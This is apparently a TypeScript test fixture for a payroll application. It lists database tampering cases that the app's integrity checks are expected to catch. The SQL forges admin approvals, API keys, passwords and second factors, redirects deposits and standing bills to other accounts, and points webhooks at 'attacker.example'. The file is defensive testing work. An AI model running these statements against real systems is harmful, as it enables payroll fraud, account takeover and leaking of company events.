import { sql } from 'kysely';
import type { Tx } from '#server/db/tx.ts';
import type { TamperedCompany } from './tampered-company.ts';

/** A change of facts that decide about money and are no posting. */
export interface TamperingCase {
  what: string;
  does: (tx: Tx, company: TamperedCompany) => Promise<unknown>;
  /** Exactly the checks that find it. */
  found: readonly string[];
}

const run = (text: string) => (tx: Tx) => sql.raw(text).execute(tx);

/** Acts of an intruder in the server, by its role and past nothing that is refused. */
export const BY_SERVER: readonly TamperingCase[] = [
  {
    what: 'raises what a payroll may pay',
    does: run('UPDATE company_settings SET payroll_batch_limit_minor = 900000000000'),
    found: ['settings'],
  },
  {
    what: 'lets one person do what takes two',
    does: run('UPDATE company_settings SET separate_payout_minor = 900000000000'),
    found: ['settings'],
  },
  {
    what: 'lets a new administrator be the second person sooner',
    does: run('UPDATE company_settings SET second_person_hours = 24'),
    found: ['settings'],
  },
  {
    what: 'pays out to people whose identity nobody checked',
    does: run('UPDATE company_settings SET require_approved_identity = false'),
    found: ['settings'],
  },
  {
    what: 'sends deposits to another bank account',
    does: run(`UPDATE company_settings
                  SET receiving_routing_number = '021000021', receiving_account_number = '666666'`),
    found: ['settings'],
  },
  {
    what: 'proposes a change of settings in an admin’s name',
    does: async (tx, company) => {
      await sql`UPDATE security_proposal SET outcome = 'discarded', decided_at = now(),
                                             decided_by = ${company.ids.admin}`.execute(tx);
      await sql`INSERT INTO security_proposal (id, act, rules, seen, proposed_by, proposed_at)
                VALUES (gen_random_uuid(), 'changeSettings', '{"separatePayout": null}', '{"separatePayout": null}',
                        ${company.ids.admin}, now())`.execute(tx);
    },
    found: ['setting-proposal-record'],
  },
  {
    what: 'accepts a proposed change in an admin’s name',
    does: (tx, company) =>
      sql`UPDATE security_proposal SET outcome = 'accepted', decided_at = now(),
                                       decided_by = ${company.otherAdmin.actor.id}`.execute(tx),
    found: ['setting-proposal-record'],
  },
  {
    what: 'approves an identity in an admin’s name',
    does: (tx, company) =>
      sql`UPDATE kyc_application SET status = 'approved', submitted_at = now(), decided_at = now(),
                                     decided_by = ${company.ids.admin}, answers_encrypted = ''
           WHERE user_id = ${company.newcomerId}`.execute(tx),
    found: ['identity-approved'],
  },
  {
    what: 'makes an API key in an admin’s name',
    does: (tx, company) =>
      sql`INSERT INTO api_key (id, name, scopes, token_hash, last4, created_by, created_at, expires_at)
          VALUES (gen_random_uuid(), 'Reports', '{payroll:write}', sha256('forged'), 'edge',
                  ${company.ids.admin}, now(), now() + interval '1 day')`.execute(tx),
    found: ['api-key-record'],
  },
  {
    what: 'lets a revoked API key work again',
    does: (tx, company) =>
      sql`UPDATE api_key SET revoked_at = NULL, revoked_by = NULL
           WHERE id = ${company.doors.revokedKey}`.execute(tx),
    found: ['api-key-record'],
  },
  {
    what: 'sends the company’s events to an address of their own',
    does: (tx, company) =>
      sql`INSERT INTO webhook_endpoint (id, url, events, created_by, created_at, secret_encrypted,
                                        secret_owner, secret_at)
          VALUES (gen_random_uuid(), 'https://attacker.example/', '{withdrawal.approved}',
                  ${company.ids.admin}, now(), '', ${company.ids.admin}, now())`.execute(tx),
    found: ['webhook-record'],
  },
  {
    what: 'makes an invite of their own',
    does: (tx, company) =>
      sql`INSERT INTO admin_invite (id, token_hash, created_by, created_at, expires_at)
          VALUES (gen_random_uuid(), sha256('forged'), ${company.ids.admin}, now(),
                  now() + interval '1 day')`.execute(tx),
    found: ['invite-record'],
  },
  {
    what: 'lets a person wait no longer to be a second one',
    does: run('DELETE FROM second_person_wait'),
    found: ['second-person-wait'],
  },
  {
    what: 'lets a person have waited already',
    does: run(`UPDATE second_person_wait SET since = since - interval '80 hours'`),
    found: ['second-person-wait'],
  },
  {
    what: 'sets a password of their own for an admin',
    does: (tx, company) =>
      sql`UPDATE auth_account SET password = 'forged' WHERE user_id = ${company.ids.admin}`.execute(
        tx,
      ),
    found: ['sign-in'],
  },
  {
    what: 'turns the two-factor of an admin off',
    does: (tx, company) =>
      sql`UPDATE app_user SET two_factor_enabled = false WHERE id = ${company.ids.admin}`.execute(
        tx,
      ),
    found: ['sign-in'],
  },
  {
    what: 'puts another app in place of a second factor',
    does: run(`UPDATE auth_two_factor SET secret = 'of their own'`),
    found: ['sign-in'],
  },
  {
    what: 'gives a person recovery codes of their own',
    does: run(`UPDATE auth_two_factor SET backup_codes = '["two"]'`),
    found: ['sign-in'],
  },
  {
    what: 'adds a passkey to an account',
    does: (tx, company) =>
      sql`INSERT INTO auth_passkey (user_id, credential_id, public_key, counter)
          VALUES (${company.ids.maya}, 'of their own', 'forged', 0)`.execute(tx),
    found: ['sign-in'],
  },
  {
    what: 'changes the address of a person',
    does: (tx, company) =>
      sql`UPDATE app_user SET email = 'thief@purser.test' WHERE id = ${company.ids.maya}`.execute(
        tx,
      ),
    found: ['sign-in'],
  },
  {
    what: 'has an admin paid as an employee too',
    does: (tx, company) =>
      sql`UPDATE app_user SET is_also_employee = true WHERE id = ${company.ids.admin}`.execute(tx),
    found: ['also-employee'],
  },
  {
    what: 'destroys the data key of a person',
    does: (tx, company) =>
      sql`UPDATE data_key SET wrapped_key = NULL, destroyed_at = now()
           WHERE user_id = ${company.ids.maya}`.execute(tx),
    found: ['data-key'],
  },
  {
    what: 'changes the secret of a webhook',
    does: run(`UPDATE webhook_endpoint SET secret_encrypted = 'forged'`),
    found: ['webhook-record'],
  },
  {
    what: 'writes a verification that found nothing',
    does: async (tx) => {
      await sql`INSERT INTO verification_run (started_at, finished_at, is_sound, problems)
                VALUES (now(), now(), false, '[]')`.execute(tx);
      await sql`INSERT INTO audit_event (actor_role, action, subject_type)
                VALUES ('system', 'books.found_unsound', 'books')`.execute(tx);
      await sql`INSERT INTO verification_run (started_at, finished_at, is_sound, problems)
                VALUES (now(), now(), true, '[]')`.execute(tx);
    },
    found: ['books-found'],
  },
  {
    what: 'writes a verification that found something',
    does: run(`INSERT INTO verification_run (started_at, finished_at, is_sound)
               VALUES (now(), now(), false)`),
    found: ['books-found'],
  },
  {
    what: 'counts less than administrators moved alone',
    does: run('UPDATE amount_used SET amount_minor = 0'),
    found: ['amounts-used'],
  },
  {
    what: 'lets the month begin again',
    does: run('DELETE FROM amount_used'),
    found: ['amounts-used'],
  },
  {
    what: 'turns a standing bill to a payee of their own',
    does: (tx, company) =>
      sql`WITH own AS (
            INSERT INTO payee (id, user_id, created_at, kind, name, account_type, last4,
                               account_number_encrypted, routing_number, customer_number)
            SELECT gen_random_uuid(), user_id, now(), 'business', 'Shell', 'checking', '6666', '',
                   '021000021', '' FROM standing_bill WHERE id = ${company.standingBill}
            RETURNING id)
          UPDATE standing_bill SET payee_id = own.id FROM own
           WHERE standing_bill.id = ${company.standingBill}`.execute(tx),
    found: ['standing-bill-record'],
  },
  {
    what: 'pays a standing bill again sooner',
    does: (tx, company) =>
      sql`UPDATE standing_bill SET next_on = starts_on WHERE id = ${company.standingBill}`.execute(
        tx,
      ),
    found: ['standing-bill-record'],
  },
  {
    what: 'stops a standing bill in its owner’s name',
    does: (tx, company) =>
      sql`UPDATE standing_bill SET next_on = NULL, ended_at = now(), ended_by = user_id
           WHERE id = ${company.standingBill}`.execute(tx),
    found: ['standing-bill-record'],
  },
  {
    what: 'turns automatic transfers to another account',
    does: async (tx, company) => {
      const { planId } = company.automatic;
      await sql`
        INSERT INTO transfer_rule (plan_id, version, position, user_id, kind, amount_minor, bank_account_id)
        SELECT plan_id, version + 1, 1, user_id, 'above', 0, bank_account_id FROM transfer_rule
         WHERE plan_id = ${planId} AND bank_account_id IS NOT NULL`.execute(tx);
      await sql`UPDATE transfer_plan SET version = version + 1, rule_count = 1
                 WHERE id = ${planId}`.execute(tx);
    },
    found: ['transfer-plan-record'],
  },
  {
    what: 'pauses automatic transfers in their owner’s name',
    does: (tx, company) =>
      sql`UPDATE transfer_plan SET paused_at = now() WHERE id = ${company.automatic.planId}`.execute(
        tx,
      ),
    found: ['transfer-plan-pause'],
  },
  {
    what: 'has automatic transfers skipped',
    does: (tx, company) =>
      sql`UPDATE transfer_plan SET skips_next = true WHERE id = ${company.automatic.planId}`.execute(
        tx,
      ),
    found: ['transfer-plan-skip'],
  },
  {
    what: 'sets up a standing bill in a person’s name',
    does: (tx, company) =>
      sql`INSERT INTO standing_bill (id, user_id, wallet_id, payee_id, amount_minor, currency, memo,
                                     frequency, starts_on, next_on, created_at, updated_at)
          SELECT gen_random_uuid(), user_id, wallet_id, payee_id, 90000, 'USD', '', 'weekly',
                 starts_on, starts_on, now(), now()
            FROM standing_bill WHERE id = ${company.standingBill}`.execute(tx),
    found: ['standing-bill-record'],
  },
  {
    what: 'raises what a person is usually paid, in an admin’s name',
    does: (tx, company) =>
      sql`WITH made AS (
            INSERT INTO usual_pay_change (id, user_id, status, valid_from, currency, reason, compared_minor,
                                          needs_second, created_by, created_at)
            SELECT gen_random_uuid(), user_id, 'confirmed', valid_from, currency, reason, 1, false,
                   created_by, now()
              FROM usual_pay_change WHERE id = ${company.usualPay.set}
            RETURNING id, user_id, valid_from)
          INSERT INTO usual_pay_line (change_id, wallet_type, user_id, valid_from, amount_minor, before_minor,
                                      counts)
          SELECT id, 'salary', user_id, valid_from, 900000, 318000, true FROM made`.execute(tx),
    found: ['usual-pay-history'],
  },
  {
    what: 'confirms a change of usual pay in another admin’s name',
    does: async (tx, company) => {
      await sql`UPDATE usual_pay_change SET status = 'confirmed', moved_at = now(),
                       moved_by = ${company.otherAdmin.actor.id}
                 WHERE id = ${company.usualPay.waiting}`.execute(tx);
      await sql`UPDATE usual_pay_line SET counts = true
                 WHERE change_id = ${company.usualPay.waiting}`.execute(tx);
    },
    found: ['usual-pay-history'],
  },
  {
    what: 'lets a line of usual pay count that waits',
    does: (tx, company) =>
      sql`UPDATE usual_pay_line SET counts = true
           WHERE change_id = ${company.usualPay.waiting}`.execute(tx),
    found: ['usual-pay-record'],
  },
];

/** Acts of an owner of the database, which the server's role is refused. */
export const BY_OWNER: readonly TamperingCase[] = [
  {
    what: 'changes what a proposed change says',
    does: run(`UPDATE security_proposal SET rules = '{"separatePayout": null}'`),
    found: ['setting-proposal-record'],
  },
  {
    what: 'puts another key into a passkey',
    does: run(`UPDATE auth_passkey SET public_key = 'forged'`),
    found: ['sign-in'],
  },
  {
    what: 'widens an API key',
    does: (tx, company) =>
      sql`UPDATE api_key SET scopes = scopes || '{payroll:write}' WHERE id = ${company.doors.apiKey}`.execute(
        tx,
      ),
    found: ['api-key-record'],
  },
  {
    what: 'lets an API key work for longer',
    does: (tx, company) =>
      sql`UPDATE api_key SET expires_at = expires_at + interval '1 minute'
           WHERE id = ${company.doors.apiKey}`.execute(tx),
    found: ['api-key-record'],
  },
  {
    what: 'puts a token of their own into an API key',
    does: (tx, company) =>
      sql`UPDATE api_key SET token_hash = sha256('forged') WHERE id = ${company.doors.apiKey}`.execute(
        tx,
      ),
    found: ['api-key-record'],
  },
  {
    what: 'raises what an API key sends in a day',
    does: (tx, company) =>
      sql`UPDATE api_key SET daily_limit_minor = 900000000000 WHERE id = ${company.doors.apiKey}`.execute(
        tx,
      ),
    found: ['api-key-record'],
  },
  {
    what: 'turns a webhook to another address',
    does: (tx, company) =>
      sql`UPDATE webhook_endpoint SET url = 'https://attacker.example/'
           WHERE id = ${company.doors.webhook}`.execute(tx),
    found: ['webhook-record'],
  },
  {
    what: 'opens an invite to everybody, for longer',
    does: (tx, company) =>
      sql`UPDATE admin_invite SET email = NULL, expires_at = expires_at + interval '1 year'
           WHERE id = ${company.doors.invite}`.execute(tx),
    found: ['invite-record'],
  },
  {
    what: 'pays a standing bill more often',
    does: (tx, company) =>
      sql`UPDATE standing_bill SET frequency = 'weekly' WHERE id = ${company.standingBill}`.execute(
        tx,
      ),
    found: ['standing-bill-record'],
  },
  {
    what: 'lets a standing bill never end',
    does: (tx, company) =>
      sql`UPDATE standing_bill SET ends_on = NULL WHERE id = ${company.standingBill}`.execute(tx),
    found: ['standing-bill-record'],
  },
  {
    what: 'raises an amount of usual pay',
    does: (tx, company) =>
      sql`UPDATE usual_pay_line SET amount_minor = amount_minor + 100000
           WHERE change_id = ${company.usualPay.confirmed}`.execute(tx),
    found: ['usual-pay-record'],
  },
  {
    what: 'pays an amount of usual pay into another wallet',
    does: (tx, company) =>
      sql`UPDATE usual_pay_line SET wallet_type = 'savings'
           WHERE change_id = ${company.usualPay.confirmed}`.execute(tx),
    found: ['usual-pay-record'],
  },
  {
    what: 'takes a change of usual pay away',
    does: async (tx, company) => {
      await sql`DELETE FROM usual_pay_line WHERE change_id = ${company.usualPay.set}`.execute(tx);
      await sql`DELETE FROM usual_pay_change WHERE id = ${company.usualPay.set}`.execute(tx);
    },
    found: ['usual-pay-history'],
  },
];
